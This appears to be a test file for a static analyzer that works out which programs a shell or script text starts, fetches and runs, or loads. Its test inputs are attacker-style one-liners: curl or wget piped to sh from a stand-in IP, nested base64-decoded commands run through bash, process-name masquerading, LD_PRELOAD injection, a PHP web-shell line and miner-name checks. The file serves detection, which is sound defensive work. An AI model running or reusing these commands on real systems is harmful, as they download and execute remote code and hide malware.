import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Setting } from './setting.ts';
import { whatItStarts } from './written.fixture.ts';

const starts = (text: string, setting: Setting = {}) =>
  whatItStarts(text, setting)
    .starts.filter(({ how }) => how === 'command')
    .map(({ path }) => path);
const b64 = (text: string): string => btoa(text);

describe('what stands in command position is started', () => {
  test.each<[string, string[]]>([
    ['/tmp/m', ['/tmp/m']],
    ['nohup /tmp/m >/dev/null 2>&1 &', ['/tmp/m']],
    ['A=1 B=2 nice -n 19 timeout 5 /tmp/m -x', ['/tmp/m']],
    ['setsid -f ionice -c 3 /tmp/m', ['/tmp/m']],
    ['exec -a "[kworker/0:0]" /tmp/m', ['/tmp/m']],
    ['cd /tmp/.x && ./m', ['/tmp/.x/m']],
    ['cd /tmp; (cd .x; ./m); ./n', ['/tmp/.x/m', '/tmp/n']],
    ['D=/var/tmp/.u; $D/m', ['/var/tmp/.u/m']],
    ['D=/var/tmp; N=m; "$D/$N" -q', ['/var/tmp/m']],
    ['for d in /tmp /var/tmp; do $d/m && break; done', ['/tmp/m', '/var/tmp/m']],
    ['sh /tmp/i.sh', ['/tmp/i.sh']],
    ['bash -c "exec /tmp/m --x"', ['/tmp/m']],
    ["su - www-data -s /bin/sh -c '/tmp/m -x'", ['/tmp/m']],
    ['runuser -u www-data -- /tmp/m', ['/tmp/m']],
    ['sudo -u www-data env X=1 /tmp/m', ['/tmp/m']],
    ['systemd-run --unit=upd /tmp/m', ['/tmp/m']],
    ['screen -dmS x /tmp/m', ['/tmp/m']],
    ["tmux new-session -d -s x '/tmp/m -q'", ['/tmp/m']],
    ['start-stop-daemon --start --background --exec /tmp/m -- -q', ['/tmp/m']],
    ['echo 1 | xargs -n 1 /tmp/m', ['/tmp/m']],
    ['find /tmp -name x -exec /tmp/m {} \\;', ['/tmp/m']],
    ['unshare -m -p /tmp/m', ['/tmp/m']],
    ['unshare -m --root=/var/box /usr/bin/m', ['/var/box/usr/bin/m']],
    ['unshare --root /var/box/ -p -- /opt/m -x', ['/var/box/opt/m']],
    ['unshare -R "$R" /tmp/m', ['/tmp/m']],
    ['chroot /var/box /usr/sbin/m', ['/var/box/usr/sbin/m']],
    ['chroot --userspec=a:b / /tmp/m', ['/tmp/m']],
    ['sudo --chroot=/var/box /opt/m', ['/var/box/opt/m']],
    ['proot -r /var/box /opt/m', ['/var/box/opt/m']],
    ['/lib64/ld-linux-x86-64.so.2 /tmp/m', ['/tmp/m']],
    ['busybox nohup /tmp/m', ['/tmp/m']],
    ['flock -n /tmp/.l /tmp/m', ['/tmp/m']],
    ['flock -n /tmp/.l -c "/tmp/m -q"', ['/tmp/m']],
    ['. /tmp/env.sh', ['/tmp/env.sh']],
    ['python3 /tmp/a.py', ['/tmp/a.py']],
    ['java -jar /tmp/a.jar', ['/tmp/a.jar']],
    [`python3 -c 'import os; os.system("/tmp/m -q")'`, ['/tmp/m']],
    [`perl -e 'exec "/tmp/m"'`, ['/tmp/m']],
    ['trap "/tmp/m" EXIT', ['/tmp/m']],
    ['pgrep -f /tmp/m || /tmp/m', ['/tmp/m']],
    ['if ! pidof m; then /tmp/m; fi', ['/tmp/m']],
    ['x() { /tmp/m; }; x', ['/tmp/m']],
    ['sh <<EOF\n/tmp/m\nEOF', ['/tmp/m']],
    ['echo /tmp/m | sh', ['/tmp/m']],
    [`echo ${b64('/tmp/m -q')} | base64 -d | bash`, ['/tmp/m']],
    [`eval "$(echo ${b64('/tmp/m')} | base64 --decode)"`, ['/tmp/m']],
    [`sh -c "$(printf ${b64('/tmp/m')} | base64 -d)"`, ['/tmp/m']],
    [`bash -c '{echo,${b64('/tmp/m')}}|{base64,-d}|{bash,-i}'`, ['/tmp/m']],
    [`echo ${b64(`echo ${b64('/tmp/m')} | base64 -d | sh`)} | base64 -d | sh`, ['/tmp/m']],
    ['sh </tmp/i.sh', ['/tmp/i.sh']],
    ['cat /tmp/i.sh | sh', ['/tmp/i.sh']],
    ['/opt/a/run.sh; /opt/b/daemon &', ['/opt/a/run.sh', '/opt/b/daemon']],
    ['systemctl start evil', ['unit:evil.service']],
    ['service nginx restart', ['unit:nginx.service']],
    ['./m; m', ['./m', 'm']],
    ['if $(kill -CHLD 7); then /tmp/m; fi; $(true) /tmp/n', ['/tmp/m', '/tmp/n']],
    ['rm() { echo /tmp/m; }; $(rm x)', ['/tmp/m']],
  ])('%s', (text, wanted) => {
    expect(starts(text)).toEqual(wanted);
  });

  test('a script knows its own folder, an account its home', () => {
    expect(starts('cd "$(dirname "$0")"; ./m', { self: '/opt/x/run.sh' })).toEqual(['/opt/x/m']);
    expect(starts(`\${0%/*}/m`, { self: '/opt/x/run.sh' })).toEqual(['/opt/x/m']);
    expect(starts('~/.x/m; $HOME/.y/m; cd; ./.z/m', { home: '/home/a' })).toEqual([
      '/home/a/.x/m',
      '/home/a/.y/m',
      '/home/a/.z/m',
    ]);
    expect(starts('./m', { cwd: '/tmp/q' })).toEqual(['/tmp/q/m']);
  });
});

describe('what is only named is not started', () => {
  test.each([
    'rm -rf /tmp/m',
    'pkill -f /tmp/m; killall m',
    'test -x /tmp/m && logger found',
    '[ -f /tmp/m ] && echo yes',
    'chmod +x /tmp/m',
    'echo /tmp/m',
    "echo '/tmp/m; /tmp/n' # /tmp/o",
    'cat >/tmp/x.sh <<EOF\n/tmp/m\nEOF',
    'cp /tmp/m /tmp/n',
    'ps aux | grep /tmp/m | grep -v grep | awk "{print \\$2}" | xargs kill -9',
    'curl -o /tmp/m http://203.0.113.9/m',
    'crontab -l | grep -v /tmp/m | crontab -',
    'systemctl stop nginx; service x stop',
    'command -v /tmp/m',
    'exec "$@"',
    'apt-get install -y curl wget cron',
    'for f in /tmp/m; do rm $f; done',
  ])('%s', (text) => {
    expect(whatItStarts(text)).toMatchObject({ starts: [], untold: [] });
  });

  test('what an unknown program is handed may be started by it', () => {
    expect(whatItStarts('/opt/scan --file=/tmp/m /tmp/n').starts).toEqual([
      { path: '/opt/scan', line: 1, how: 'command' },
      { path: '/tmp/m', line: 1, how: 'handed' },
      { path: '/tmp/n', line: 1, how: 'handed' },
    ]);
  });

  test('a library is loaded', () => {
    for (const text of [
      'LD_PRELOAD=/tmp/l.so /usr/bin/true',
      'export LD_PRELOAD=/tmp/l.so',
      'env LD_PRELOAD=/tmp/l.so true',
    ])
      expect(
        whatItStarts(text)
          .starts.filter(({ how }) => how === 'loads')
          .map(({ path }) => path),
      ).toEqual(['/tmp/l.so']);
  });
});

describe('what a text does not tell is said', () => {
  test.each([
    '$X',
    '"$X/m"',
    '$(curl http://203.0.113.9/x)',
    'sh "$X"',
    'python3 -c "$X"',
    `python3 -c 'import os; os.system(x)'`,
  ])('%s', (text) => {
    expect(whatItStarts(text).untold).toEqual([1]);
  });
  test('and that not all of it was read', () => {
    const many = Array.from({ length: 300 }, (_, i) => `/opt/${i}`).join('\n');
    expect(whatItStarts(many)).toMatchObject({ whole: false });
    expect(whatItStarts('/tmp/m')).toMatchObject({ whole: true });
  });
});

describe('fetching and running', () => {
  const fetched = (text: string) => whatItStarts(text).fetchRuns.map(({ host }) => host);
  test.each([
    'curl -fsSL http://203.0.113.9:8443/i.sh | sh',
    'wget -q -O- http://203.0.113.9/i.sh|bash',
    '(curl -fsSL http://203.0.113.9/x || wget -qO- http://203.0.113.9/x) | sh',
    'sh -c "$(curl -fsSL http://203.0.113.9/x)"',
    'eval "$(wget -qO- http://203.0.113.9/x)"',
    'bash <(curl -s http://203.0.113.9/x)',
    'curl http://203.0.113.9/x | base64 -d | sh',
    'curl http://203.0.113.9/x -o /tmp/x && chmod +x /tmp/x && /tmp/x',
    'wget http://203.0.113.9/a/x.sh; sh x.sh',
    'cd /tmp; curl -O http://203.0.113.9/x.sh; sh ./x.sh',
    'LDR="wget -q -O -"; $LDR http://203.0.113.9/x | sh',
    'for h in 203.0.113.9; do curl http://$h/x | sh; done',
    'curl -s http://203.0.113.9/m >/tmp/m; mv /tmp/m /var/tmp/k; /var/tmp/k',
    'python3 -c "$(curl http://203.0.113.9/x.py)"',
    `echo ${b64('curl http://203.0.113.9/x | sh')} | base64 -d | sh`,
    'curl -fsSL http://203.0.113.9/i.sh|sh;\r# nothing to see here',
  ])('%s', (text) => {
    expect(fetched(text)).toContain('203.0.113.9');
  });
  test.each([
    'curl -fsS http://203.0.113.9/ping >/dev/null',
    'curl -s http://203.0.113.9/status | jq .ok',
    'wget -q http://203.0.113.9/backup.tgz -O /srv/backup.tgz; tar xf /srv/backup.tgz',
  ])('%s runs nothing of it', (text) => {
    expect(fetched(text)).toEqual([]);
  });
});

test('what is decoded and cannot be read further is run all the same', () => {
  expect(whatItStarts('echo aGk= | base64 -d | gunzip | sh')).toMatchObject({
    decodesAndRuns: true,
    untold: [1],
  });
  expect(whatItStarts('echo aGk= | base64 -d | gunzip >/srv/x')).toMatchObject({
    decodesAndRuns: false,
    untold: [],
  });
});

test('tests by name and path are told', () => {
  const { tests } = whatItStarts(
    'pgrep -f kdevtmpfsi || [ -x /tmp/k ] || ps aux | grep [k]insing | grep -v grep || x',
  );
  expect(tests).toEqual(['kdevtmpfsi', '/tmp/k', 'kinsing']);
});

test('copies are told', () => {
  expect(whatItStarts('cp /tmp/m /usr/bin/kk; cd /tmp; ln -s m n').copies).toEqual([
    { from: '/tmp/m', to: '/usr/bin/kk' },
    { from: '/tmp/m', to: '/usr/bin/kk/m' },
    { from: '/tmp/m', to: '/tmp/n' },
    { from: '/tmp/m', to: '/tmp/n/m' },
  ]);
});

test('scripts of other languages are read by their calls', () => {
  const of = (language: string, text: string) => whatItStarts(text, { language });
  expect(of('python', 'import subprocess\nsubprocess.Popen(["/tmp/m", "-q"])\n').starts).toMatchObject([
    { path: '/tmp/m' },
  ]);
  expect(of('python', 'subprocess.run(cmd)').untold).toEqual([1]);
  expect(of('perl', 'system("/tmp/m &");').starts).toMatchObject([{ path: '/tmp/m' }]);
  expect(of('php', '<?php echo shell_exec($_GET["c"]);').untold).toEqual([1]);
  expect(of('node', "require('child_process').spawn('/tmp/m', ['-x'])").starts).toMatchObject([
    { path: '/tmp/m' },
  ]);
  expect(of('python', 'print("/tmp/m")\n# os.system("/tmp/m")')).toMatchObject({ starts: [], untold: [] });
});

test('any text is read, and in bounded steps', () => {
  const piece = fc.constantFrom(
    '$(',
    '`',
    '"',
    "'",
    '|sh',
    'eval ',
    'base64 -d',
    'for x in ',
    'do ',
    '$x',
    '/tmp/m',
    '\n',
    ';',
    ' | ',
    '<<E\n',
    'sh -c ',
    'curl http://a/b ',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string({ maxLength: 6 })), { maxLength: 60 }), (pieces) => {
      const { starts } = whatItStarts(pieces.join(''));
      expect(starts.length).toBeLessThanOrEqual(200);
    }),
    { numRuns: 1000 },
  );
});
